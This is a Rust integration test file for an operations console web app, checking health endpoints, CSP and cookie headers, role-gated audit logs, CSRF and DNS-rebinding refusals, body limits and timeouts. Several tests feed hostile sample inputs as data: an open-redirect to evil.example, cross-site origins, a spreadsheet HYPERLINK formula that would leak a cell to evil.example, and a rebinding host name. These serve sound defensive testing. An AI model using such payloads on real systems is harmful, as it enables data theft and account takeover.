//! The real console on port 0 with a fresh SQLite database, spoken to over HTTP as a browser,
//! curl or a script would.

use crate::common::{self, spawn_app};

const DEMO: [&str; 6] = [
    "taskflow-production",
    "homebrew-bottles-sync-prod",
    "homebrew-bottles-sync-staging",
    "homebrew-bottles-sync-dev",
    "docdb-bluegreen-prod",
    "curriculum-alignment-prod",
];

#[tokio::test]
async fn public_endpoints_answer_without_a_session() {
    let app = spawn_app().await;
    let r = app
        .client
        .get(format!("{}/healthz", app.url))
        .send()
        .await
        .expect("healthz");
    assert_eq!(r.status(), 200);
    let r = app
        .client
        .get(format!("{}/readyz", app.url))
        .send()
        .await
        .expect("readyz");
    assert_eq!(r.status(), 200);
    app.client.get(format!("{}/", app.url)).send().await.expect("page");
    let (_, text) = app.page("/metrics").await;
    assert!(
        text.contains("ops_console_http_request_duration_seconds_count{method=\"GET\",status=\"2xx\"}"),
        "{text}"
    );
    assert!(text.contains("ops_console_environments 6"), "{text}");
}

#[tokio::test]
async fn the_overview_page_is_server_rendered_with_every_demo_environment() {
    let app = spawn_app().await;
    let r = app.client.get(format!("{}/", app.url)).send().await.expect("page");
    assert_eq!(r.status(), 200);
    let csp = r
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    assert!(csp.contains("script-src 'self' 'nonce-"), "{csp}");
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert_eq!(
        r.headers().get("x-content-type-options").map(|v| v.as_bytes()),
        Some(&b"nosniff"[..])
    );
    assert!(r.headers().get("x-request-id").is_some());
    assert!(
        r.headers().get("strict-transport-security").is_none(),
        "no HSTS without TLS"
    );
    let body = r.text().await.expect("body");
    for name in DEMO {
        assert!(body.contains(name), "page lacks {name}");
    }
    assert!(body.contains("Demo data"), "demo banner");
    let name = common::asset_name();
    assert!(
        body.contains(&format!("/pkg/{name}.js"))
            && body.contains(&format!("/pkg/{name}.css"))
            && body.contains(&format!("{name}\", \"{name}\"")),
        "hydration script and stylesheet under the content-hashed name {name}"
    );
    // The nonce of the header is the nonce of the inline hydration script.
    let nonce = csp
        .split("'nonce-")
        .nth(1)
        .and_then(|s| s.split('\'').next())
        .unwrap_or("none");
    assert!(
        body.contains(&format!("nonce=\"{nonce}\"")),
        "script carries the CSP nonce"
    );
}

#[tokio::test]
async fn unknown_paths_are_404_and_static_files_are_served() {
    let app = spawn_app().await;
    let r = app
        .client
        .get(format!("{}/definitely/not/here", app.url))
        .send()
        .await
        .expect("404");
    assert_eq!(r.status(), 404);
    assert!(r.text().await.expect("body").contains("Not found"));
    let r = app
        .client
        .post(format!("{}/api/v1/no/such/fn", app.url))
        .send()
        .await
        .expect("404 fn");
    assert_eq!(r.status(), 404);
}

#[tokio::test]
async fn server_functions_return_typed_data_and_errors_with_statuses() {
    let app = spawn_app().await;
    let (status, list) = app.call("environments/list", &[]).await;
    assert_eq!(status, 200, "{list}");
    let names: Vec<&str> = list
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|e| e["name"].as_str())
        .collect();
    assert_eq!(names.len(), 6);
    for name in DEMO {
        assert!(names.contains(&name), "{name} missing from {names:?}");
    }
    assert!(list.as_array().expect("array").iter().all(|e| e["demo"] == true));
    let curriculum = list
        .as_array()
        .expect("array")
        .iter()
        .find(|e| e["name"] == "curriculum-alignment-prod")
        .expect("c");
    assert!(curriculum["alarms_firing"].as_u64().unwrap_or(0) >= 1, "{curriculum}");

    let (status, env) = app.call("environments/get", &[("name", "taskflow-production")]).await;
    assert_eq!(status, 200);
    assert_eq!(env["summary"]["region"], "us-east-1");
    let resources = env["inventory"]["resources"].as_array().expect("resources");
    assert!(
        resources
            .iter()
            .any(|r| r["name"] == "taskflow-api-production" && r["tasks"]["desired"].as_u64().is_some())
    );

    let (status, err) = app.call("environments/get", &[("name", "nope")]).await;
    assert_eq!(status, 404);
    assert_eq!(err["error"], "not_found", "{err}");
    let long = "x".repeat(200);
    let (status, err) = app.call("environments/get", &[("name", &long)]).await;
    assert_eq!(status, 422, "{err}");
    let (status, _) = app.call("environments/get", &[]).await;
    assert!(
        status == 400 || status == 500 || status == 422,
        "missing argument is refused ({status})"
    );
}

#[tokio::test]
async fn roles_gate_the_audit_log_and_the_dev_login_is_audited() {
    let app = spawn_app().await;
    let (status, me) = app.call("session/whoami", &[]).await;
    assert_eq!(status, 200);
    assert_eq!(me["anonymous"], true);
    assert_eq!(me["roles"], serde_json::json!(["viewer"]));
    let (status, err) = app.call("audit/list", &[]).await;
    assert_eq!(status, 403, "{err}");

    let r = app.dev_login("alice", "responder").await;
    assert_eq!(r.status(), 303);
    let cookie = r
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    assert!(cookie.starts_with("ops_console_session="), "{cookie}");
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Lax"),
        "{cookie}"
    );
    assert!(!cookie.contains("Secure"), "not Secure without https public_url");
    let (_, me) = app.call("session/whoami", &[]).await;
    assert_eq!(me["subject"], "alice");
    let (status, _) = app.call("audit/list", &[]).await;
    assert_eq!(status, 403, "responder is not admin");

    let r = app.dev_login("carol", "admin").await;
    assert_eq!(r.status(), 303);
    let (status, page) = app.call("audit/list", &[("actor", "alice")]).await;
    assert_eq!(status, 200, "{page}");
    let entries = page["entries"].as_array().expect("entries");
    let actions: Vec<&str> = entries.iter().filter_map(|e| e["action"].as_str()).collect();
    assert_eq!(
        actions,
        vec!["request.refused", "login"],
        "newest first: alice's refused call, then her login"
    );
    let entries = &entries[1..];
    assert!(
        entries[0]["request_id"].as_str().is_some_and(|s| !s.is_empty()),
        "request id recorded"
    );
    assert_eq!(
        page["head_seq"], 4,
        "anonymous refused, alice's login, alice refused, carol's login"
    );

    let (status, err) = app.call("audit/list", &[("limit", "0")]).await;
    assert_eq!(status, 422, "{err}");

    let r = app
        .client
        .post(format!("{}/logout", app.url))
        .header("origin", &app.url)
        .send()
        .await
        .expect("logout");
    assert_eq!(r.status(), 303);
    let (_, me) = app.call("session/whoami", &[]).await;
    assert_eq!(me["anonymous"], true);
    let all = app.state.store.audit_all(None).await.expect("audit");
    assert_eq!(
        all.iter().map(|e| e.entry.action.as_str()).collect::<Vec<_>>(),
        vec!["request.refused", "login", "request.refused", "login", "logout"]
    );
    assert!(
        all[2].entry.detail.contains("needs the admin role"),
        "{}",
        all[2].entry.detail
    );
    assert_eq!(
        (all[2].entry.actor.as_str(), all[2].entry.target.as_str()),
        ("alice", "/api/v1/audit/list")
    );
}

#[tokio::test]
async fn the_dev_login_refuses_bad_input_and_foreign_next() {
    let app = spawn_app().await;
    let post = |form: Vec<(&'static str, String)>| {
        app.client
            .post(format!("{}/auth/dev-login", app.url))
            .header("origin", &app.url)
            .form(&form)
            .send()
    };
    let r = post(vec![("user", "mallory".into())]).await.expect("bad user");
    assert_eq!(r.status(), 422);
    let r = post(vec![("user", "bob".into()), ("role", "root".into())])
        .await
        .expect("bad role");
    assert_eq!(r.status(), 422);
    let r = post(vec![("user", "bob".into()), ("next", "https://evil.example/".into())])
        .await
        .expect("next");
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers().get("location").map(|v| v.as_bytes()), Some(&b"/"[..]));
    let all = app.state.store.audit_all(None).await.expect("audit");
    assert_eq!(all.len(), 1);
    assert!(
        all[0].entry.detail.contains("\"next_rejected\":true"),
        "{}",
        all[0].entry.detail
    );
    let r = post(vec![
        ("user", "bob".into()),
        ("next", "/env/taskflow-production".into()),
    ])
    .await
    .expect("local next");
    assert_eq!(
        r.headers().get("location").map(|v| v.as_bytes()),
        Some(&b"/env/taskflow-production"[..])
    );
}

#[tokio::test]
async fn cross_site_writes_are_refused_before_routing_and_audited() {
    let app = spawn_app().await;
    let r = app
        .client
        .post(format!("{}/auth/dev-login", app.url))
        .header("origin", "https://evil.example")
        .form(&[("user", "carol"), ("role", "admin")])
        .send()
        .await
        .expect("csrf");
    assert_eq!(r.status(), 403);
    let r = app
        .client
        .post(format!("{}/api/v1/environments/list", app.url))
        .header("sec-fetch-site", "cross-site")
        .send()
        .await
        .expect("csrf 2");
    assert_eq!(r.status(), 403);
    // Refused before routing: even a path that does not exist answers 403, not 404.
    let r = app
        .client
        .post(format!("{}/nowhere", app.url))
        .header("origin", "null")
        .send()
        .await
        .expect("csrf 3");
    assert_eq!(r.status(), 403);
    let (_, me) = app.call("session/whoami", &[]).await;
    assert_eq!(me["anonymous"], true, "the refused login did not sign anyone in");
    let all = app.state.store.audit_all(None).await.expect("audit");
    assert_eq!(all.len(), 3);
    assert!(
        all.iter()
            .all(|e| e.entry.action == "csrf.refused" && e.entry.outcome == "refused")
    );
}

// Dev mode refuses a public_url off loopback; https on localhost still makes cookies Secure.
#[tokio::test]
async fn https_public_url_makes_cookies_secure_and_sends_hsts() {
    let app = common::spawn_app_with("public_url = \"https://localhost\"").await;
    let r = app
        .client
        .get(format!("{}/healthz", app.url))
        .send()
        .await
        .expect("healthz");
    assert!(r.headers().get("strict-transport-security").is_some());
    let r = app
        .client
        .post(format!("{}/auth/dev-login", app.url))
        .header("origin", "https://localhost")
        .form(&[("user", "dave")])
        .send()
        .await
        .expect("login");
    assert_eq!(r.status(), 303);
    let cookie = r
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default();
    assert!(cookie.contains("Secure"), "{cookie}");
    // With public_url set, the request's own Host is not a valid origin.
    let r = app
        .client
        .post(format!("{}/auth/dev-login", app.url))
        .header("origin", &app.url)
        .form(&[("user", "dave")])
        .send()
        .await
        .expect("login 2");
    assert_eq!(r.status(), 403);
}

/// Sessions live in the database: a restarted console (same database) still knows the session;
/// an expired one (idle expiry passed, or older than the absolute lifetime) is not honoured.
#[tokio::test]
async fn sessions_survive_a_restart_and_expire_on_schedule() {
    use sqlx::Connection;
    let dir = tempfile::tempdir().expect("tempdir");
    let first = common::spawn_app_in(dir.path(), "").await;
    let r = first.dev_login("carol", "admin").await;
    let cookie = r
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .and_then(|c| c.split(';').next())
        .expect("session cookie")
        .to_string();
    let whoami = |url: String, cookie: String| async move {
        let r = reqwest::Client::new()
            .post(format!("{url}/api/v1/session/whoami"))
            .header("cookie", cookie)
            .send()
            .await
            .expect("whoami");
        r.json::<serde_json::Value>().await.expect("json")
    };
    let second = common::spawn_app_in(dir.path(), "").await;
    assert_eq!(
        whoami(second.url.clone(), cookie.clone()).await["subject"],
        "carol",
        "the restarted console knows the session"
    );

    // Past the absolute lifetime (login_at moved back 13 h, absolute_hours = 12): anonymous again.
    let url = format!("sqlite://{}/console.db", dir.path().display());
    sqlx::any::install_default_drivers();
    let mut db = sqlx::AnyConnection::connect(&url).await.expect("db");
    let row: (String, String) = sqlx::query_as("SELECT id, data FROM sessions")
        .fetch_one(&mut db)
        .await
        .expect("session");
    // Edit the raw text: the record holds a 128-bit id that a JSON round trip would mangle.
    let key = "\"login_at\":";
    let at = row.1.find(key).expect("login_at") + key.len();
    let end = at + row.1[at..].find(|c: char| !c.is_ascii_digit()).expect("end of number");
    let login_at: i64 = row.1[at..end].parse().expect("number");
    let aged = format!("{}{}{}", &row.1[..at], login_at - 13 * 3600, &row.1[end..]);
    sqlx::query("UPDATE sessions SET data = $1 WHERE id = $2")
        .bind(aged)
        .bind(&row.0)
        .execute(&mut db)
        .await
        .expect("age the session");
    let after = whoami(second.url.clone(), cookie.clone()).await;
    assert_eq!(after["anonymous"], true, "absolute lifetime: {after}");

    // Idle expiry: a session whose expiry (now + idle_minutes at its last use) has passed.
    let third = common::spawn_app_in(dir.path(), "").await;
    let r = third.dev_login("dave", "viewer").await;
    let cookie = r
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .and_then(|c| c.split(';').next())
        .expect("cookie")
        .to_string();
    assert_eq!(whoami(third.url.clone(), cookie.clone()).await["subject"], "dave");
    sqlx::query("UPDATE sessions SET expiry_ms = 0")
        .execute(&mut db)
        .await
        .expect("expire");
    assert_eq!(
        whoami(third.url.clone(), cookie).await["anonymous"],
        true,
        "idle expiry"
    );
}

#[tokio::test]
async fn a_login_with_other_roles_than_last_time_is_audited_as_a_role_change() {
    let app = spawn_app().await;
    app.dev_login("bob", "approver").await;
    app.dev_login("bob", "approver").await;
    app.dev_login("bob", "admin").await;
    let all = app.state.store.audit_all(None).await.expect("audit");
    let changes: Vec<&str> = all
        .iter()
        .filter(|e| e.entry.action == "role.change")
        .map(|e| e.entry.detail.as_str())
        .collect();
    assert_eq!(changes, vec![r#"{"from":"approver","to":"admin"}"#]);
}

/// A made-up HTTP method (any client can send one) does not add a metric series.
#[tokio::test]
async fn made_up_methods_do_not_add_metric_series() {
    let app = spawn_app().await;
    for i in 0..30 {
        let method = reqwest::Method::from_bytes(format!("JUNK{i:03}").as_bytes()).expect("method");
        let r = app
            .client
            .request(method, format!("{}/healthz", app.url))
            .send()
            .await
            .expect("junk");
        assert!(
            r.status().is_client_error() || r.status().is_success(),
            "{}",
            r.status()
        );
    }
    let (_, text) = app.page("/metrics").await;
    assert!(!text.contains("JUNK"), "{text}");
    let series: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("ops_console_http_request_duration_seconds_count"))
        .collect();
    assert!(series.iter().any(|l| l.contains("method=\"other\"")), "{series:?}");
    assert!(series.len() <= 3, "GET and other (and their classes): {series:?}");
}

/// A flood of anonymous refusals writes at most `audited_refusals_per_minute` audit entries a
/// minute; every refusal is still counted in /metrics, and an approval-grade write is not held up.
#[tokio::test]
async fn refusals_past_the_budget_are_counted_not_audited() {
    let app = common::spawn_app_with("[http]\naudited_refusals_per_minute = 3\n").await;
    for _ in 0..12 {
        let r = app
            .client
            .post(format!("{}/auth/dev-login", app.url))
            .header("origin", "https://evil.example")
            .form(&[("user", "carol"), ("role", "admin")])
            .send()
            .await
            .expect("csrf");
        assert_eq!(r.status(), 403);
    }
    let all = app.state.store.audit_all(None).await.expect("audit");
    let refused = all.iter().filter(|e| e.entry.action == "csrf.refused").count();
    assert_eq!(refused, 3, "three audited, nine only counted");
    let (_, text) = app.page("/metrics").await;
    assert!(
        text.contains("ops_console_refusals_total{kind=\"csrf.refused\"} 12"),
        "{text}"
    );
    assert!(
        text.contains("ops_console_refusals_unaudited_total{kind=\"csrf.refused\"} 9"),
        "{text}"
    );
    // A real login is audited as ever.
    assert_eq!(app.dev_login("bob", "approver").await.status(), 303);
    let all = app.state.store.audit_all(None).await.expect("audit");
    assert_eq!(all.last().map(|e| e.entry.action.as_str()), Some("login"));
}

/// `X-Request-Id` from a client is kept only when it is 1-64 letters, digits and `-`; anything
/// else (here a spreadsheet formula) is replaced by an id the server makes.
#[tokio::test]
async fn a_client_request_id_is_kept_only_in_a_strict_form() {
    let app = spawn_app().await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
    let login = |id: &'static str| {
        app.client
            .post(format!("{}/auth/dev-login", app.url))
            .header("origin", &app.url)
            .header("x-request-id", id)
            .form(&[("user", "bob"), ("role", "viewer")])
            .send()
    };
    let r = login(formula).await.expect("login");
    assert_eq!(r.status(), 303);
    let echoed = r
        .headers()
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    let r = login("trace-0042").await.expect("login 2");
    assert_eq!(
        r.headers().get("x-request-id").map(|v| v.as_bytes()),
        Some(&b"trace-0042"[..])
    );
    let all = app.state.store.audit_all(None).await.expect("audit");
    let ids: Vec<&str> = all.iter().map(|e| e.entry.request_id.as_str()).collect();
    assert_eq!(ids.len(), 2, "{ids:?}");
    assert_ne!(ids[0], formula);
    assert_eq!(ids[0], echoed, "the server's id is the one the client was told");
    assert!(
        ids[0].len() == 36 && ids[0].chars().all(|c| c.is_ascii_hexdigit() || c == '-'),
        "a server-made UUID: {}",
        ids[0]
    );
    assert_eq!(ids[1], "trace-0042", "a plain id is kept for tracing");
}

/// Sends `head` and then `body` on a raw connection (and nothing more: the connection stays
/// open) and returns the status line of the answer.
async fn raw_request(app: &common::TestApp, head: String, body: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = app.url.trim_start_matches("http://");
    let mut s = tokio::net::TcpStream::connect(addr).await.expect("connect");
    s.write_all(head.as_bytes()).await.expect("head");
    s.write_all(body).await.expect("body");
    let mut buf = vec![0u8; 4096];
    // A bound on the test, not a wait for readiness: the console must answer by itself.
    let n = tokio::time::timeout(std::time::Duration::from_secs(15), s.read(&mut buf))
        .await
        .expect("the console did not answer")
        .expect("read");
    String::from_utf8_lossy(&buf[..n])
        .lines()
        .next()
        .unwrap_or_default()
        .to_string()
}

/// A body over `http.max_body_bytes` is refused with 413 before any handler runs, whether it
/// says its length or streams in chunks; nothing is signed in or audited.
#[tokio::test]
async fn oversized_bodies_are_refused_before_any_handler() {
    let app = common::spawn_app_with("[http]\nmax_body_bytes = 4096\n").await;
    let host = app.url.trim_start_matches("http://").to_string();
    // By its declared length: refused before a byte of it is read.
    let head = format!(
        "POST /auth/dev-login HTTP/1.1\r\nHost: {host}\r\nOrigin: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n",
        app.url
    );
    let status = raw_request(&app, head, b"").await;
    assert!(status.starts_with("HTTP/1.1 413"), "{status}");

    // Chunked, without a length: refused once more than 4096 bytes have arrived (the chunks
    // stop there, so that the console has read everything sent when it answers).
    let big = format!("user=bob&role=admin&next=/{}", "a".repeat(5_000));
    let mut chunked = Vec::new();
    for piece in big.as_bytes().chunks(1000) {
        chunked.extend(format!("{:x}\r\n", piece.len()).as_bytes());
        chunked.extend(piece);
        chunked.extend(b"\r\n");
    }
    let head = format!(
        "POST /auth/dev-login HTTP/1.1\r\nHost: {host}\r\nOrigin: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n",
        app.url
    );
    let status = raw_request(&app, head, &chunked).await;
    assert!(status.starts_with("HTTP/1.1 413"), "{status}");

    // A body within the limit still works, and it is the only login.
    assert_eq!(app.dev_login("bob", "viewer").await.status(), 303);
    let all = app.state.store.audit_all(None).await.expect("audit");
    assert_eq!(all.len(), 1, "only the last login happened");
}

/// A client that sends its headers and then stops sending its body is cut off at
/// `http.request_timeout_seconds` with 408, instead of holding a connection and a task.
#[tokio::test]
async fn a_body_that_never_arrives_is_cut_off_at_the_deadline() {
    let app = common::spawn_app_with("[http]\nrequest_timeout_seconds = 1\n").await;
    let host = app.url.trim_start_matches("http://");
    let head = format!(
        "POST /api/v1/session/whoami HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\n"
    );
    let started = std::time::Instant::now();
    let status = raw_request(&app, head, b"a=1").await;
    assert!(status.starts_with("HTTP/1.1 408"), "{status}");
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
}

/// A peer that accepts connections and never answers (here: the AWS endpoint of an environment)
/// holds a request no longer than `http.request_timeout_seconds`: the caller gets 504 then,
/// instead of waiting for the SDK's own timeouts.
#[tokio::test]
async fn an_answer_later_than_the_deadline_is_a_504() {
    let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = silent.local_addr().expect("addr");
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((socket, _)) = silent.accept().await {
            held.push(socket);
        }
    });
    let app = common::spawn_app_with(&format!(
        "[http]\nrequest_timeout_seconds = 1\n\n[[environments]]\nname = \"silent\"\ntier = \"dev\"\nregion = \"us-east-1\"\nendpoint_url = \"http://{addr}\"\n"
    ))
    .await;
    let started = std::time::Instant::now();
    let (status, body) = app.call("environments/get", &[("name", "silent")]).await;
    assert_eq!(status, 504, "{body}");
    assert_eq!(body["error"], "timeout", "{body}");
    assert!(
        started.elapsed() < std::time::Duration::from_millis(3000),
        "cut at the deadline, before the SDK's own timeouts: {:?}",
        started.elapsed()
    );
}

/// DNS rebinding: a page of another site whose name now points at the console's machine reaches
/// it with that name in `Host`. The console answers only to its own names (421, with where it
/// is), so nobody signs in as a dev approver that way; in dev mode a request through a proxy is
/// refused too. Health checks address the machine by IP and are exempt.
#[tokio::test]
async fn a_request_for_another_host_name_is_refused() {
    let app = spawn_app().await;
    let port = app.url.rsplit(':').next().expect("port").to_string();
    let foreign = format!("rebind.attacker.test:{port}");
    let r = app
        .client
        .post(format!("{}/auth/dev-login", app.url))
        .header("host", &foreign)
        .header("origin", format!("http://{foreign}"))
        .form(&[("user", "bob"), ("role", "approver"), ("next", "/")])
        .send()
        .await
        .expect("dev login");
    assert_eq!(r.status(), 421);
    let text = r.text().await.expect("body");
    assert!(
        text.contains("rebind.attacker.test") && text.contains("open it at"),
        "{text}"
    );
    let r = app
        .client
        .get(format!("{}/api/v1/session/whoami", app.url))
        .header("host", &foreign)
        .send()
        .await
        .expect("whoami");
    assert_eq!(r.status(), 421, "reads too");
    let (_, me) = app.call("session/whoami", &[]).await;
    assert_eq!(me["anonymous"], true, "nobody was signed in: {me}");

    // Through a proxy on the same machine (Host rewritten to loopback): refused in dev mode.
    let r = app
        .client
        .post(format!("{}/auth/dev-login", app.url))
        .header("x-forwarded-for", "203.0.113.9")
        .header("origin", &app.url)
        .form(&[("user", "bob"), ("role", "approver"), ("next", "/")])
        .send()
        .await
        .expect("proxied login");
    assert_eq!(r.status(), 421);

    // Its own names pass: 127.0.0.1:port (every other test) and localhost.
    let r = app
        .client
        .get(format!("{}/", app.url))
        .header("host", format!("localhost:{port}"))
        .send()
        .await
        .expect("localhost");
    assert_eq!(r.status(), 200);
    let r = app
        .client
        .get(format!("{}/healthz", app.url))
        .header("host", "10.1.2.3:8080")
        .send()
        .await
        .expect("probe");
    assert_eq!(r.status(), 200, "probes address the machine by IP");
}

/// A response's status, headers and body decoded as its `Content-Encoding` says.
struct Got {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: Vec<u8>,
}

impl Got {
    async fn from(r: reqwest::Response) -> Got {
        let (status, headers) = (r.status().as_u16(), r.headers().clone());
        let raw = r.bytes().await.expect("body").to_vec();
        let body = match headers.get("content-encoding").and_then(|v| v.to_str().ok()) {
            Some("br") => {
                let mut out = Vec::new();
                brotli::BrotliDecompress(&mut raw.as_slice(), &mut out).expect("valid brotli");
                out
            }
            Some("gzip") => {
                let mut out = Vec::new();
                std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(raw.as_slice()), &mut out)
                    .expect("valid gzip");
                out
            }
            Some(other) => panic!("unexpected content-encoding {other}"),
            None => raw,
        };
        Got { status, headers, body }
    }

    fn header(&self, name: &str) -> &str {
        self.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or("")
    }
}

/// GET `path` with this `Accept-Encoding` (none when empty).
async fn get_encoded(app: &common::TestApp, path: &str, accept: &str) -> Got {
    let mut req = app.client.get(format!("{}{path}", app.url));
    if !accept.is_empty() {
        req = req.header("accept-encoding", accept);
    }
    Got::from(req.send().await.expect("get")).await
}

#[tokio::test]
async fn assets_go_out_hashed_precompressed_and_immutable_and_pages_are_revalidated() {
    let app = spawn_app().await;
    let name = common::asset_name();
    let pkg = format!("{}/pkg", common::site_root());
    for ext in ["wasm", "js", "css"] {
        let path = format!("/pkg/{name}.{ext}");
        let file = std::fs::read(format!("{pkg}/{name}.{ext}")).expect("built asset");
        for (accept, encoding) in [("br, gzip", "br"), ("gzip", "gzip"), ("", "")] {
            let r = get_encoded(&app, &path, accept).await;
            assert_eq!(r.status, 200, "{path}");
            assert_eq!(r.header("content-encoding"), encoding, "{path} with {accept:?}");
            assert_eq!(
                r.header("cache-control"),
                "public, max-age=31536000, immutable",
                "{path}"
            );
            assert!(r.header("vary").contains("accept-encoding"), "{path}: {:?}", r.headers);
            assert!(
                r.body == file,
                "{path} with {accept:?}: the decoded body is the built file"
            );
        }
    }
    let r = get_encoded(&app, &format!("/pkg/{name}.wasm"), "br").await;
    assert_eq!(r.header("content-type"), "application/wasm");
    // A revalidation (304) keeps the year: a 304's headers replace the cached ones.
    let r = app
        .client
        .get(format!("{}/pkg/{name}.wasm", app.url))
        .header("if-modified-since", r.header("last-modified"))
        .send()
        .await
        .expect("revalidate");
    assert_eq!(r.status(), 304);
    assert_eq!(
        r.headers().get("cache-control").and_then(|v| v.to_str().ok()),
        Some("public, max-age=31536000, immutable")
    );

    // A hashed name that is not there is not cached; the unhashed copy is revalidated.
    let r = get_encoded(&app, "/pkg/ops-console.0000000000000000.wasm", "br").await;
    assert_eq!(r.status, 404);
    assert!(!r.header("cache-control").contains("immutable"));
    let r = get_encoded(&app, "/pkg/ops-console.css", "").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.header("cache-control"), "no-cache");

    // The page: compressed (gzip on the fly, even when brotli is offered), revalidated, never
    // stored by a shared cache.
    let r = get_encoded(&app, "/", "gzip, br").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-encoding"), "gzip");
    assert_eq!(r.header("cache-control"), "private, no-cache");
    let html = String::from_utf8(r.body).expect("utf-8");
    assert!(
        html.contains(&format!("/pkg/{name}.wasm")) && html.contains(DEMO[0]),
        "{html}"
    );

    // Data too.
    let r = app
        .client
        .post(format!("{}/api/v1/environments/list", app.url))
        .header("accept-encoding", "gzip")
        .send()
        .await
        .expect("list");
    let r = Got::from(r).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-encoding"), "gzip");
    assert_eq!(r.header("cache-control"), "private, no-cache");
    let list: serde_json::Value = serde_json::from_slice(&r.body).expect("json");
    assert_eq!(list.as_array().map(Vec::len), Some(DEMO.len()));
}

/// The rare SSR stall (docs/PERFORMANCE.md): Leptos's route generation holds a process-global flag
/// under which a Resource that starts loading never loads (leptos issue #4773). Building routers
/// while pages render used to stall a page now and then; the routes are now generated once per
/// process, so every page here answers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn routers_built_while_pages_render_do_not_stall_them() {
    let app = spawn_app().await;
    let addr: std::net::SocketAddr = "127.0.0.1:0".parse().expect("addr");
    let building = {
        let state = app.state.clone();
        tokio::task::spawn_blocking(move || {
            for _ in 0..40 {
                let _ = server::router(
                    state.clone(),
                    server::leptos_options_at(addr, common::site_root(), "pkg".into()),
                );
            }
        })
    };
    let client = reqwest::Client::builder()
        .timeout(std::time::Duration::from_secs(10))
        .build()
        .expect("client");
    for i in 0..40 {
        let path = if i % 2 == 0 { "/" } else { "/definitely/not/here" };
        let r = client
            .get(format!("{}{path}", app.url))
            .send()
            .await
            .unwrap_or_else(|e| panic!("request {i} ({path}) did not finish: {e}"));
        assert!(matches!(r.status().as_u16(), 200 | 404), "{path}: {}", r.status());
        let body = r.text().await.expect("body");
        assert!(body.contains("</html>"), "{path}: the whole page");
    }
    building.await.expect("routers built");
}
